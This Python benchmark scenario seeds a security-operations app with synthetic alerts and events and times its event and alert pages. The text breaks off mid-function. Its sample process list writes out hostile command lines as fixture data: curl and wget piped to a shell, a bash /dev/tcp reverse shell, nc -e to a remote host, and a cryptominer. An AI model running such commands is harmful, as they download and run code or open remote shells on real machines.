"""Scenario ``pages``: the Security Event Handling pages and the Alert page on real volume.

One organisation with five accounts (one much bigger than the others, each
with hosts in both region groups) holds 5,000 hosts, 1,000,000 alerts over
180 days and 100,000 security events made of them (1 to 500 alerts each,
through EventAlert), with their affected assets, alert entities and status
history. The rows are written directly with COPY: this scenario is about
reading, and the pipeline scenario measures how they would arrive. Events
take their rule, name and risk from the predefined aggregation rules; their
sizes have a long tail; recent events are mostly Unhandled and old ones
mostly Handled. The data stays for the next run (a marker table records what
was made) unless ``--rebuild`` is given or it is more than a day old.

The pages are then requested through Django's test client as a global
administrator of the organisation, in the Current Account View of the
biggest account and in the Global Account View, both in the China region:
the event list with no filter and with each single filter (page 1 and page
50), and for information a few second filters over the whole 180 days; the
event details (each tab) of a small event and of the largest one; and the
Alert page with and without filters. Each case is requested twice to
warm up, then ``--page-repeats`` times; the median and p90 of the server time
and the queries of one request are reported against the issue's bars: the
event list under 150 ms at the median (the Alert page is held to the same
bar), the details under 300 ms.
"""

import json
import math
import os
import random
import re
import statistics
import uuid
from bisect import bisect
from collections import Counter
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from itertools import accumulate
from time import perf_counter
from urllib.parse import urlencode

from django.conf import settings
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from psycopg import sql

from alerts.models import Alert, AlertEntity, AlertSource, Asset, Entity, EntityRole, EntityType
from bench import database
from bench.generate import BenchAccount
from events.grouping import render_template
from events.models import (
    AggregationRule,
    EventAlert,
    EventStatus,
    EventStatusChange,
    SecurityEvent,
)
from secops import services as secops_services
from secops.enums import RegionGroup, RiskLevel, Role, View
from secops.models import Account, Organisation

ORGANISATION = "Bench Pages Org"
ACCOUNTS = [
    BenchAccount("8300000000000001", "Pages Retail CN", RegionGroup.CHINA),
    BenchAccount("8300000000000002", "Pages Payments CN", RegionGroup.CHINA),
    BenchAccount("8300000000000003", "Pages Global", RegionGroup.OUTSIDE_CHINA),
    BenchAccount("8300000000000004", "Pages Data CN", RegionGroup.CHINA),
    BenchAccount("8300000000000005", "Pages Europe", RegionGroup.OUTSIDE_CHINA),
]
# Share of the hosts and events of each account: the first is the biggest.
ACCOUNT_SHARES = [0.40, 0.22, 0.16, 0.12, 0.10]
# Share of an account's hosts in its home region group; the rest are in the other.
HOME_REGION_SHARE = 0.8
USERNAME = "bench-pages-admin"

ALERTS = 1_000_000
EVENTS = 100_000
ASSETS = 5_000
DAYS = 180
MAX_EVENT_ALERTS = 500
REPEATS = 15
WARM_UP = 2
DEEP_PAGE = 50
LIST_BAR_MS = 150
DETAILS_BAR_MS = 300
# Reused data ages: after a day the "last 24 hours" and "last 7 days" windows
# no longer hold what a live tenant's would, so the data is made again.
REUSE_HOURS = 24
# Bumped whenever the data this module makes changes shape.
DATA_VERSION = 1
MARKER_TABLE = "bench_pages_dataset"

CLOUD_REGIONS = {
    RegionGroup.CHINA: ["cn-hangzhou", "cn-shanghai", "cn-beijing", "cn-shenzhen"],
    RegionGroup.OUTSIDE_CHINA: ["ap-southeast-1", "us-west-1", "eu-central-1", "ap-northeast-1"],
}
HOST_ROLES = ["web", "api", "app", "db", "cache", "job", "mq", "bastion", "gw", "build"]
OPERATING_SYSTEMS = [
    "Ubuntu 22.04",
    "CentOS 7.9",
    "Alibaba Cloud Linux 3",
    "Debian 12",
    "Windows Server 2019",
]
USERS = ["root", "admin", "ubuntu", "deploy", "www-data", "postgres", "oracle", "git"]
PROCESSES = [
    "/tmp/.x/kdevtmpfsi",
    "/usr/bin/curl -s http://198.51.100.7/x.sh | sh",
    "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "/var/tmp/xmrig -o pool.minexmr.com:443",
    "python3 -c import pty;pty.spawn('/bin/sh')",
    "/dev/shm/.sshd -D",
    "nc -e /bin/sh 192.0.2.44 9001",
    "wget -qO- http://198.51.100.23/miner | bash",
]


@dataclass(frozen=True)
class AlertKind:
    source: str
    type: str
    name: str
    tactic: str = ""
    technique: str = ""


SC = AlertSource.SECURITY_CENTER
WEBSHELL = AlertKind(SC, "webshell", "Webshell file found", "Persistence", "T1505.003")
REVERSE_SHELL = AlertKind(SC, "reverse_shell", "Reverse shell command", "Execution", "T1059.004")
BRUTE_FORCE = AlertKind(SC, "brute_force", "SSH brute-force attack", "Credential Access", "T1110")
UNUSUAL_LOGON = AlertKind(
    SC, "suspicious_login", "Logon from an unusual location", "Initial Access", "T1078"
)
MALICIOUS_PROCESS = AlertKind(
    SC, "malicious_process", "Malicious process (cloud scanning)", "Execution", "T1059"
)
MINING = AlertKind(SC, "mining", "Cryptomining program", "Impact", "T1496")
TROJAN = AlertKind(SC, "malicious_file", "Trojan file", "Execution", "T1204.002")
MALICIOUS_IP = AlertKind(
    SC, "abnormal_network", "Connection to a malicious IP", "Command and Control", "T1071"
)
ROOTKIT = AlertKind(SC, "rootkit", "Kernel module rootkit", "Defense Evasion", "T1014.001")
WEB_ATTACKS = [
    AlertKind(AlertSource.WAF, "web_attack", name, "Initial Access", "T1190")
    for name in (
        "SQL injection",
        "Cross-site scripting",
        "Remote code execution",
        "Path traversal",
        "Scanner behaviour",
    )
]
FIREWALL = [
    AlertKind(AlertSource.CLOUD_FIREWALL, "intrusion_prevention", name, "Initial Access", "T1190")
    for name in ("Exploit attempt blocked", "Port scan", "Brute-force attempt blocked")
]
SIEM = [
    AlertKind(AlertSource.SIEM, "reverse_shell", "Interactive shell with network redirection",
              "Execution", "T1059.004"),
    AlertKind(AlertSource.SIEM, "brute_force", "SSH brute force followed by a successful logon",
              "Credential Access", "T1110"),
    AlertKind(AlertSource.SIEM, "malicious_process", "Credential dumping from /etc/shadow",
              "Credential Access", "T1003.008"),
    AlertKind(AlertSource.SIEM, "abnormal_network", "Outbound connection to a mining pool",
              "Impact", "T1496"),
]  # fmt: skip


@dataclass(frozen=True)
class EventKind:
    """What one predefined rule's events look like: their alerts, grouping and size."""

    rule_key: str
    weight: int
    alerts: tuple[AlertKind, ...]
    group: str  # asset, attacker_ip, file_hash, user, alert, alert_name
    # Median alerts per event (a log-normal tail reaches MAX_EVENT_ALERTS).
    median_size: float = 4.0
    most_assets: int = 1
    # The rule takes high-risk alerts only.
    high_only: bool = False


EVENT_KINDS = [
    EventKind("web-attack-campaign", 18, tuple(WEB_ATTACKS), "attacker_ip", 6.0, 3),
    EventKind("brute-force-then-login", 16, (BRUTE_FORCE, UNUSUAL_LOGON), "attacker_ip", 6.0, 4),
    EventKind(
        "high-risk-host-alert", 12, (MALICIOUS_PROCESS, WEBSHELL, TROJAN), "alert", high_only=True
    ),
    EventKind(
        "attacker-ip-across-waf-and-firewall",
        10,
        (*WEB_ATTACKS[:2], *FIREWALL),
        "attacker_ip",
        4.0,
        3,
    ),
    EventKind("abnormal-network-from-host", 9, (MALICIOUS_IP,), "asset", 3.0),
    EventKind("malicious-processes-on-host", 7, (MALICIOUS_PROCESS,), "asset", 3.0),
    EventKind("siem-detection-on-host", 7, tuple(SIEM), "alert_name", 3.0),
    EventKind("malicious-file-on-several-hosts", 5, (TROJAN, WEBSHELL), "file_hash", 3.0, 8),
    EventKind("suspicious-logins-of-user", 5, (UNUSUAL_LOGON,), "user", 2.0),
    EventKind("mining-on-host", 4, (MINING,), "asset", 4.0),
    EventKind("webshell-and-reverse-shell", 3, (WEBSHELL, REVERSE_SHELL), "asset", 3.0),
    EventKind("rootkit-or-compromised-software", 1, (ROOTKIT,), "asset", 2.0),
]
SIZE_SIGMA = 1.4
RISKS = [RiskLevel.HIGH, RiskLevel.MEDIUM, RiskLevel.LOW]


def add_arguments(parser) -> None:
    """The options of this scenario, for ``python -m bench``."""
    parser.add_argument(
        "--pages-alerts", type=int, default=ALERTS, help="alerts to hold (1,000,000)"
    )
    parser.add_argument(
        "--pages-events", type=int, default=EVENTS, help="security events to hold (100,000)"
    )
    parser.add_argument("--pages-assets", type=int, default=ASSETS, help="hosts (5,000)")
    parser.add_argument(
        "--rebuild", action="store_true", help="make the data again even if it is there"
    )
    parser.add_argument(
        "--page-repeats",
        type=int,
        default=REPEATS,
        help=f"timed requests per case after {WARM_UP} warm-up requests ({REPEATS})",
    )
    parser.add_argument(
        "--page-cases",
        default="",
        help="only the cases whose 'page view label' matches this regex, e.g. 'events global'",
    )
    parser.add_argument(
        "--explain",
        action="store_true",
        help="print EXPLAIN (ANALYZE, BUFFERS) of the slowest queries of a case over its bar",
    )


# --- figures -----------------------------------------------------------------------


@dataclass
class CaseFigures:
    page: str  # events, details, alerts
    view: str
    label: str
    url: str
    bar_ms: float
    status: int
    rows: int
    queries: int
    durations: list[float] = field(default_factory=list)
    explained: list[str] = field(default_factory=list)

    @property
    def median_ms(self) -> float:
        return statistics.median(self.durations) * 1000

    @property
    def p90_ms(self) -> float:
        ordered = sorted(self.durations)
        return ordered[max(0, math.ceil(0.9 * len(ordered)) - 1)] * 1000

    @property
    def passes(self) -> bool:
        return self.median_ms < self.bar_ms


@dataclass
class PagesFigures:
    postgres_version: str
    reused: bool
    why_made: str
    setup_seconds: float
    dataset: dict
    counts: dict
    load_at_start: float
    load_at_end: float
    repeats: int
    cases: list[CaseFigures] = field(default_factory=list)


def run(args) -> PagesFigures:
    """Make or reuse the data, request every case, and return the figures."""
    alerts = getattr(args, "pages_alerts", ALERTS)
    events = getattr(args, "pages_events", EVENTS)
    assets = getattr(args, "pages_assets", ASSETS)
    if not 0 < events <= alerts or assets < len(ACCOUNTS) * 2:
        raise ValueError(
            "--pages-events must be at least 1 and at most --pages-alerts, and there must be "
            f"at least {len(ACCOUNTS) * 2} assets."
        )
    repeats = max(1, getattr(args, "page_repeats", REPEATS))
    wanted = {
        "version": DATA_VERSION,
        "seed": getattr(args, "seed", 1),
        "alerts": alerts,
        "events": events,
        "assets": assets,
    }
    # Production settings log no SQL; DEBUG only stands in for a SECRET_KEY here.
    settings.DEBUG = False
    if "testserver" not in settings.ALLOWED_HOSTS:
        settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, "testserver"]

    name = database.check_database()
    database.create_database_if_missing(name)
    database.migrate()
    organisation, accounts = _tenancy()
    began = perf_counter()
    why = _reason_to_make(accounts, wanted, rebuild=getattr(args, "rebuild", False))
    if why:
        print(f"pages: making the data ({why}) ...", flush=True)
        _make_data(organisation, accounts, wanted)
    setup_seconds = perf_counter() - began
    user = _bench_user(organisation, accounts[0])

    figures = PagesFigures(
        postgres_version=database.server_version(),
        reused=not why,
        why_made=why,
        setup_seconds=round(setup_seconds, 1),
        dataset=wanted,
        counts=_counts(accounts),
        load_at_start=os.getloadavg()[0],
        load_at_end=0.0,
        repeats=repeats,
    )
    pattern = re.compile(getattr(args, "page_cases", "") or "")
    explain = getattr(args, "explain", False)
    for view, client in _clients(user, accounts[0]):
        for case in _cases(view, accounts):
            if pattern.search(f"{case.page} {view} {case.label}"):
                figures.cases.append(_measure(client, case, view, repeats, explain))
    figures.load_at_end = os.getloadavg()[0]
    return figures


def report(figures: PagesFigures, out=print) -> list[str]:
    """Print the figures; returns the problems that make the run invalid."""
    counts = figures.counts
    out("")
    out(
        f"Pages bench: {counts['alerts']:,} alerts, {counts['events']:,} events, "
        f"{counts['assets']:,} hosts, {counts['event_alerts']:,} event-alert links, "
        f"{counts['status_changes']:,} status changes; PostgreSQL {figures.postgres_version}"
    )
    made = "reused" if figures.reused else f"made ({figures.why_made})"
    out(
        f"  data {made} in {figures.setup_seconds} s; largest event {counts['largest']:,} "
        f"alerts; machine: {os.cpu_count()} CPUs, load average {figures.load_at_start:.1f} "
        f"before and {figures.load_at_end:.1f} after the requests"
    )
    out(
        f"  each case: {WARM_UP} warm-up requests, then median and p90 of "
        f"{figures.repeats} requests (server time through Django's test client); queries of "
        "one request, session and user included"
    )
    out(
        f"  bars: event list and Alert page < {LIST_BAR_MS} ms, event details < "
        f"{DETAILS_BAR_MS} ms at the median"
    )
    titles = {
        "events": "Security Event Handling list",
        "details": "Event details",
        "alerts": "Alert page",
    }
    for page, title in titles.items():
        cases = [c for c in figures.cases if c.page == page]
        if not cases:
            continue
        out("")
        out(f"  {title}")
        out(f"  {'view':8} {'case':50} {'rows':>5} {'median':>8} {'p90':>8} {'queries':>7}  bar")
        for case in cases:
            verdict = "PASS" if case.passes else "BELOW"
            out(
                f"  {case.view:8} {case.label:50} {case.rows:5d} {case.median_ms:8.1f} "
                f"{case.p90_ms:8.1f} {case.queries:7d}  {verdict}"
            )
            for text in case.explained:
                out("")
                for line in text.splitlines():
                    out(f"      {line}")
                out("")
    passed = sum(case.passes for case in figures.cases)
    out("")
    out(f"  {passed} of {len(figures.cases)} cases meet their bar")
    slowest = sorted(figures.cases, key=lambda c: c.median_ms, reverse=True)[:5]
    if slowest:
        out(
            "  slowest: "
            + "; ".join(f"{c.page} {c.view} {c.label} {c.median_ms:.1f} ms" for c in slowest)
        )

    problems = [
        f"{case.page} {case.view} {case.label} answered {case.status}"
        for case in figures.cases
        if case.status != 200
    ]
    wanted = figures.dataset
    if counts["events"] != wanted["events"] or counts["alerts"] != wanted["alerts"]:
        problems.append(
            f"the data holds {counts['events']:,} events and {counts['alerts']:,} alerts, "
            f"not {wanted['events']:,} and {wanted['alerts']:,}"
        )
    if not figures.cases:
        problems.append("no case matched --page-cases")
    return problems


# --- tenancy and the data ------------------------------------------------------------


def _tenancy() -> tuple[Organisation, list[Account]]:
    organisation, _ = Organisation.objects.get_or_create(name=ORGANISATION)
    accounts = []
    for bench_account in ACCOUNTS:
        account, _ = secops_services.create_account(
            organisation,
            uid=bench_account.uid,
            name=bench_account.name,
            region=bench_account.home_region,
        )
        accounts.append(account)
    return organisation, accounts


def _bench_user(organisation: Organisation, biggest: Account):
    User = get_user_model()
    existing = User.objects.filter(username=USERNAME).first()
    user, _ = secops_services.create_user(
        organisation,
        username=USERNAME,
        # Logged in with force_login; the password only has to exist.
        password=None if existing else uuid.uuid4().hex,
        memberships=[(biggest.uid, Role.ADMIN)],
        global_admin=True,
    )
    return user


def _account_ids(accounts) -> list[int]:
    return [account.id for account in accounts]


def _counts(accounts) -> dict:
    ids = _account_ids(accounts)
    events = SecurityEvent.objects.filter(account_id__in=ids)
    largest = events.order_by("-alert_count").values_list("alert_count", flat=True).first()
    return {
        "alerts": Alert.objects.filter(account_id__in=ids).count(),
        "events": events.count(),
        "assets": Asset.objects.filter(account_id__in=ids).count(),
        "event_alerts": EventAlert.objects.filter(event__account_id__in=ids).count(),
        "status_changes": EventStatusChange.objects.filter(event__account_id__in=ids).count(),
        "largest": largest or 0,
    }


def _marker() -> dict | None:
    with connection.cursor() as cursor:
        cursor.execute(
            sql.SQL(
                "CREATE TABLE IF NOT EXISTS {} (id integer PRIMARY KEY, description jsonb NOT "
                "NULL, made_at timestamptz NOT NULL)"
            ).format(sql.Identifier(MARKER_TABLE))
        )
        cursor.execute(
            sql.SQL("SELECT description, made_at FROM {} WHERE id = 1").format(
                sql.Identifier(MARKER_TABLE)
            )
        )
        row = cursor.fetchone()
    if row is None:
        return None
    description = row[0] if isinstance(row[0], dict) else json.loads(row[0])
    return {**description, "made_at": row[1]}


def _reason_to_make(accounts, wanted: dict, *, rebuild: bool) -> str:
    """Why the data has to be made, or "" when the stored data can be reused."""
    if rebuild:
        return "--rebuild"
    marker = _marker()
    if marker is None:
        return "none stored"
    if {k: marker.get(k) for k in wanted} != wanted:
        return "stored data was made with other options"
    if timezone.now() - marker["made_at"] > timedelta(hours=REUSE_HOURS):
        return f"stored data is more than {REUSE_HOURS} hours old"
    ids = _account_ids(accounts)
    stored = (
        SecurityEvent.objects.filter(account_id__in=ids).count(),
        Alert.objects.filter(account_id__in=ids).count(),
    )
    if stored != (wanted["events"], wanted["alerts"]):
        return "stored rows do not match the marker (emptied by another scenario?)"
    return ""


def _make_data(organisation: Organisation, accounts: list[Account], wanted: dict) -> None:
    rules = {rule.key: rule for rule in AggregationRule.objects.predefined()}
    missing = sorted({kind.rule_key for kind in EVENT_KINDS} - set(rules))
    if missing:
        raise ValueError(f"predefined rules missing after migrate: {', '.join(missing)}")
    started = perf_counter()
    with transaction.atomic():
        _remove_previous(accounts)
        _step("removed the previous rows", started)
        maker = _DataMaker(accounts, rules, wanted, random.Random(f"pages/{wanted['seed']}"))
        maker.write(started)
        with connection.cursor() as cursor:
            cursor.execute(
                sql.SQL(
                    "INSERT INTO {} (id, description, made_at) VALUES (1, %s, now()) "
                    "ON CONFLICT (id) DO UPDATE SET description = EXCLUDED.description, "
                    "made_at = EXCLUDED.made_at"
                ).format(sql.Identifier(MARKER_TABLE)),
                [json.dumps(wanted)],
            )
    # Vacuumed as autovacuum would have done on a live database: the
    # visibility map lets index-only scans skip the heap, and the statistics
    # describe the new rows.
    with connection.cursor() as cursor:
        for model in (
            Asset,
            Entity,
            Alert,
            AlertEntity,
            SecurityEvent,
            SecurityEvent.affected_assets.through,
            EventAlert,
            EventStatusChange,
        ):
            cursor.execute(
                sql.SQL("VACUUM (ANALYZE) {}").format(sql.Identifier(model._meta.db_table))
            )
    _step("vacuumed and analysed", started)


def _step(text: str, started: float) -> None:
    print(f"pages: {text} ({perf_counter() - started:.0f} s)", flush=True)


def _remove_previous(accounts) -> None:
    """Delete the rows of the bench accounts, children first, in set-based statements."""

    def table(model) -> sql.Identifier:
        return sql.Identifier(model._meta.db_table)

    of_accounts = sql.SQL("account_id = ANY(%(ids)s)")
    events = sql.SQL("SELECT id FROM {} WHERE {}").format(table(SecurityEvent), of_accounts)
    alerts = sql.SQL("SELECT id FROM {} WHERE {}").format(table(Alert), of_accounts)
    statements = [
        sql.SQL("DELETE FROM {} WHERE event_id IN ({})").format(table(EventAlert), events),
        sql.SQL("DELETE FROM {} WHERE event_id IN ({})").format(
            table(SecurityEvent.affected_assets.through), events
        ),
        sql.SQL("DELETE FROM {} WHERE event_id IN ({})").format(table(EventStatusChange), events),
        sql.SQL("UPDATE {} SET continues_id = NULL WHERE continues_id IN ({})").format(
            table(SecurityEvent), events
        ),
        sql.SQL("DELETE FROM {} WHERE alert_id IN ({})").format(table(AlertEntity), alerts),
        *[
            sql.SQL("DELETE FROM {} WHERE {}").format(table(model), of_accounts)
            for model in (SecurityEvent, Alert, Entity, Asset)
        ],
    ]
    with connection.cursor() as cursor:
        for statement in statements:
            cursor.execute(statement, {"ids": _account_ids(accounts)})


def _reserve_ids(model, count: int) -> int:
    """The first of ``count`` consecutive ids taken from the table's sequence."""
    table = model._meta.db_table
    with connection.cursor() as cursor:
        cursor.execute("SELECT nextval(pg_get_serial_sequence(%s, 'id'))", [table])
        first = cursor.fetchone()[0]
        cursor.execute(
            "SELECT setval(pg_get_serial_sequence(%s, 'id'), %s)", [table, first + count - 1]
        )
    return first


def _copy(model, columns: list[str], rows) -> None:
    """COPY ``rows`` (tuples in the order of ``columns``) into the model's table.

    A column the model no longer has is left out, so that the scenario keeps
    working while the schema moves on; a new column must have a default. Every
    row belongs to the bench organisation, which fills a tenant table's
    organisation column (secops.tenancy).
    """
    present = {field.column for field in model._meta.concrete_fields}
    kept = [index for index, column in enumerate(columns) if column in present]
    names = [columns[index] for index in kept]
    extra = []
    if "organisation_id" in present and "organisation_id" not in names:
        names.append("organisation_id")
        extra = [Organisation.objects.get(name=ORGANISATION).id]
    statement = sql.SQL("COPY {} ({}) FROM STDIN").format(
        sql.Identifier(model._meta.db_table),
        sql.SQL(", ").join(sql.Identifier(name) for name in names),
    )
    with connection.cursor() as cursor, cursor.copy(statement) as copy:
        if len(kept) == len(columns) and not extra:
            for row in rows:
                copy.write_row(row)
        else:
            for row in rows:
                copy.write_row([*(row[index] for index in kept), *extra])


@dataclass
class _Host:
    id: int
    account: int  # index in ACCOUNTS
    region: str
    uuid: str
    instance_id: str
    name: str


@dataclass
class _Event:
    id: int
    account: int
    region: str
    kind: EventKind
    alert_kind: AlertKind
    rule: AggregationRule
    hosts: list[_Host]
    group_value: str
    entity_key: tuple[str, str] | None
    size: int
    risk: int
    first: float  # epoch seconds
    last: float
    status: str
    name: str = ""

    @property
    def template_values(self) -> dict[str, str]:
        return {
            "asset_name": self.hosts[0].name,
            "attacker_ip": self.group_value,
            "file_hash": self.group_value,
            "user": self.group_value,
            "alert_name": self.alert_kind.name,
        }


class _DataMaker:
    """Plans the hosts, events and alerts in memory, then writes them with COPY."""

    def __init__(self, accounts, rules, wanted, rng: random.Random):
        self.accounts = accounts
        self.rules = rules
        self.wanted = wanted
        self.rng = rng
        self.now = timezone.now().replace(microsecond=0)
        self.now_epoch = self.now.timestamp()
        self.tz = self.now.tzinfo
        self.hosts: dict[tuple[int, str], list[_Host]] = {}
        self.entities: dict[tuple[int, str, str], int] = {}  # (account, type, value) -> id

    # -- planning ------------------------------------------------------------------

    def _plan_hosts(self) -> list[_Host]:
        total = self.wanted["assets"]
        first_id = _reserve_ids(Asset, total)
        hosts = []
        for index in range(total):
            account = self._account_for(index / total)
            home = ACCOUNTS[account].home_region
            other = RegionGroup.OUTSIDE_CHINA if home == RegionGroup.CHINA else RegionGroup.CHINA
            region = home if self.rng.random() < HOME_REGION_SHARE else other
            role = HOST_ROLES[index % len(HOST_ROLES)]
            host = _Host(
                id=first_id + index,
                account=account,
                region=region,
                uuid=str(uuid.UUID(int=self.rng.getrandbits(128))),
                instance_id=f"i-{self.rng.getrandbits(64):016x}",
                name=f"{role}-{index:04d}",
            )
            hosts.append(host)
            self.hosts.setdefault((account, region), []).append(host)
        return hosts

    def _account_for(self, fraction: float) -> int:
        return min(bisect(list(accumulate(ACCOUNT_SHARES)), fraction), len(ACCOUNTS) - 1)

    def _skewed(self, items: list, power: float = 2.5):
        """An item of ``items``, the first ones far more often (busy hosts, loud scanners)."""
        return items[int(len(items) * self.rng.random() ** power)]

    def _event_time(self) -> float:
        """Seconds ago of an event's first occurrence: a little more activity lately."""
        span = DAYS * 86400 - 3 * 3600
        u = self.rng.random()
        fraction = u if self.rng.random() < 0.7 else 1 - math.sqrt(u)
        return fraction * span

    def _status(self, age_days: float) -> str:
        # Recent events are still being worked on; old ones were mostly closed.
        weights = (55, 15, 27, 3) if age_days < 14 else (8, 2, 86, 4)
        return self.rng.choices(
            [EventStatus.UNHANDLED, EventStatus.HANDLING, EventStatus.HANDLED, EventStatus.FAILED],
            weights,
        )[0]

    def _plan_events(self) -> list[_Event]:
        count = self.wanted["events"]
        kinds = EVENT_KINDS
        kind_weights = list(accumulate(kind.weight for kind in kinds))
        account_weights = list(accumulate(ACCOUNT_SHARES))
        # A long tail of attacker IPs and file hashes: a few seen very often.
        self.attackers = [self._ip(self.rng.randint(1, 223)) for _ in range(6000)]
        self.hashes = [uuid.UUID(int=self.rng.getrandbits(128)).hex * 2 for _ in range(800)]
        events = []
        for _ in range(count):
            kind = kinds[bisect(kind_weights, self.rng.random() * kind_weights[-1])]
            account = min(bisect(account_weights, self.rng.random()), len(ACCOUNTS) - 1)
            home = ACCOUNTS[account].home_region
            other = next(r for r in RegionGroup.values if r != home)
            region = home if self.rng.random() < HOME_REGION_SHARE else other
            if not self.hosts.get((account, region)):
                region = other if region == home else home
            pool = self.hosts[(account, region)]
            hosts = [self._skewed(pool)]
            extra = int(self.rng.random() ** 3 * kind.most_assets)
            for _ in range(extra):
                host = self.rng.choice(pool)
                if host not in hosts:
                    hosts.append(host)
            alert_kind = self.rng.choice(kind.alerts)
            group_value, entity_key = self._group(kind, hosts[0], alert_kind)
            size = 1
            if kind.group != "alert":
                size = int(math.exp(self.rng.gauss(math.log(kind.median_size), SIZE_SIGMA)))
                size = min(max(size, 1), MAX_EVENT_ALERTS)
            rule = self.rules[kind.rule_key]
            risk = RiskLevel.HIGH if kind.high_only else rule.risk
            if risk is None:
                risk = self.rng.choices(RISKS, (8, 40, 52))[0]
            ago = self._event_time()
            duration = 0.0
            if size > 1:
                duration = rule.window_seconds * self.rng.uniform(0.02, 0.98)
                duration = min(duration, ago - 60)
            first = self.now_epoch - ago
            event = _Event(
                id=0,
                account=account,
                region=region,
                kind=kind,
                alert_kind=alert_kind,
                rule=rule,
                hosts=hosts,
                group_value=group_value,
                entity_key=entity_key,
                size=size,
                risk=int(risk),
                first=first,
                last=first + max(duration, 0.0),
                status=self._status(ago / 86400),
            )
            event.name = render_template(rule.event_name_template, event.template_values)[:255]
            events.append(event)
        self._fit_sizes(events)
        # Ids in order of first occurrence, as the pipeline would have made them.
        events.sort(key=lambda e: e.first)
        first_id = _reserve_ids(SecurityEvent, len(events))
        for offset, event in enumerate(events):
            event.id = first_id + offset
        return events

    def _ip(self, first_octet: int) -> str:
        rng = self.rng
        return f"{first_octet}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"

    def _group(self, kind: EventKind, host: _Host, alert_kind: AlertKind):
        """The value an event's alerts share, and the entity it is (if any)."""
        if kind.group == "attacker_ip":
            ip = self._skewed(self.attackers, 3.0)
            return ip, (EntityType.IP, ip)
        if kind.group == "file_hash":
            file_hash = self._skewed(self.hashes, 2.0)
            return file_hash, (EntityType.FILE, file_hash)
        if kind.group == "user":
            user = self.rng.choice(USERS)
            return user, (EntityType.USER, user)
        if kind.group == "alert_name":
            return alert_kind.name, None
        return host.name, None

    def _fit_sizes(self, events: list[_Event]) -> None:
        """Scale the sizes so that the events hold about 95% of the alerts (the rest
        are whitelisted and never aggregated), and make the biggest account's largest
        event exactly MAX_EVENT_ALERTS alerts."""
        budget = int(self.wanted["alerts"] * 0.95)
        total = sum(e.size for e in events)
        if total > budget or total < budget * 0.9:
            factor = budget / total
            for event in events:
                if event.size > 1:
                    event.size = min(max(round(event.size * factor), 1), MAX_EVENT_ALERTS)
        largest = max(
            (e for e in events if e.account == 0 and e.kind.group != "alert"),
            key=lambda e: e.size,
        )
        largest.size = MAX_EVENT_ALERTS
        excess = sum(e.size for e in events) - self.wanted["alerts"]
        for event in sorted(events, key=lambda e: -e.size):
            if excess <= 0:
                break
            if event is largest:
                continue
            cut = min(excess, event.size - 1)
            event.size -= cut
            excess -= cut

    # -- writing -------------------------------------------------------------------

    def write(self, started: float) -> None:
        hosts = self._plan_hosts()
        self._write_hosts(hosts)
        _step(f"{len(hosts):,} hosts", started)
        events = self._plan_events()
        self._write_entities(events)
        _step(f"{len(self.entities):,} entities", started)
        self._write_events(events)
        _step(f"{len(events):,} events with assets and status history", started)
        self._write_alerts(events)
        _step(f"{self.wanted['alerts']:,} alerts with their event and entity links", started)

    def _account_id(self, index: int) -> int:
        return self.accounts[index].id

    def _at(self, epoch: float):
        return datetime.fromtimestamp(round(epoch), tz=self.tz)

    def _write_hosts(self, hosts: list[_Host]) -> None:
        columns = ["id", "account_id", "uuid", "instance_id", "name", "public_ip",
                   "private_ip", "os", "cloud_region", "region", "created_at"]  # fmt: skip
        rng = self.rng
        created = self.now - timedelta(days=DAYS + 30)
        _copy(
            Asset,
            columns,
            (
                (
                    host.id,
                    self._account_id(host.account),
                    host.uuid,
                    host.instance_id,
                    host.name,
                    self._ip(47) if rng.random() < 0.6 else None,
                    self._ip(10),
                    rng.choice(OPERATING_SYSTEMS),
                    rng.choice(CLOUD_REGIONS[host.region]),
                    host.region,
                    created,
                )
                for host in hosts
            ),
        )

    def _entity_key(self, account: int, entity_type: str, value: str) -> int:
        key = (account, entity_type, value)
        if key not in self.entities:
            self.entities[key] = len(self.entities)
        return self.entities[key]

    def _write_entities(self, events: list[_Event]) -> None:
        for event in events:
            if event.entity_key:
                self._entity_key(event.account, *event.entity_key)
        for account in range(len(ACCOUNTS)):
            for process in PROCESSES:
                self._entity_key(account, EntityType.PROCESS, process)
        first_id = _reserve_ids(Entity, len(self.entities))
        self.entities = {key: first_id + offset for key, offset in self.entities.items()}
        seen = self.now - timedelta(days=DAYS)
        columns = ["id", "account_id", "type", "value", "digest", "attributes", "malicious",
                   "first_seen_at", "last_seen_at"]  # fmt: skip
        _copy(
            Entity,
            columns,
            (
                (
                    entity_id,
                    self._account_id(account),
                    entity_type,
                    value,
                    Entity.digest_for(entity_type, value),
                    json.dumps({"cmdline": value} if entity_type == EntityType.PROCESS else {}),
                    entity_type != EntityType.USER,
                    seen,
                    self.now,
                )
                for (account, entity_type, value), entity_id in self.entities.items()
            ),
        )

    def _write_events(self, events: list[_Event]) -> None:
        columns = ["id", "account_id", "region", "rule_id", "group_key", "group_values", "name",
                   "description", "risk", "status", "first_occurred_at", "last_occurred_at",
                   "alert_count", "created_at", "updated_at"]  # fmt: skip

        def rows():
            for event in events:
                rule = event.rule
                fields = {event.kind.group: event.group_value}
                if event.kind.group == "alert":
                    fields = {"alert": str(event.id)}
                first, last = self._at(event.first), self._at(event.last)
                yield (
                    event.id,
                    self._account_id(event.account),
                    event.region,
                    rule.id,
                    uuid.UUID(int=self.rng.getrandbits(128)).hex,
                    json.dumps(
                        {
                            "fields": fields,
                            "display": {},
                            "window_seconds": rule.window_seconds,
                        }
                    ),
                    event.name,
                    render_template(rule.event_description_template, event.template_values),
                    event.risk,
                    event.status,
                    first,
                    last,
                    event.size,
                    first,
                    last,
                )

        _copy(SecurityEvent, columns, rows())
        Assets = SecurityEvent.affected_assets.through
        _copy(
            Assets,
            ["event_id", "asset_id"],
            ((event.id, host.id) for event in events for host in event.hosts),
        )
        _copy(
            EventStatusChange,
            ["event_id", "from_status", "to_status", "note", "created_at"],
            self._status_history(events),
        )

    def _status_history(self, events: list[_Event]):
        handling = EventStatus.HANDLING
        for event in events:
            opened = self._at(event.first + 5)
            yield (event.id, "", EventStatus.UNHANDLED, "Opened by the aggregation pipeline.",
                   opened)  # fmt: skip
            if event.status == EventStatus.UNHANDLED:
                continue
            later = min(event.last + self.rng.uniform(600, 86400), self.now_epoch)
            if event.status == EventStatus.HANDLED and self.rng.random() < 0.4:
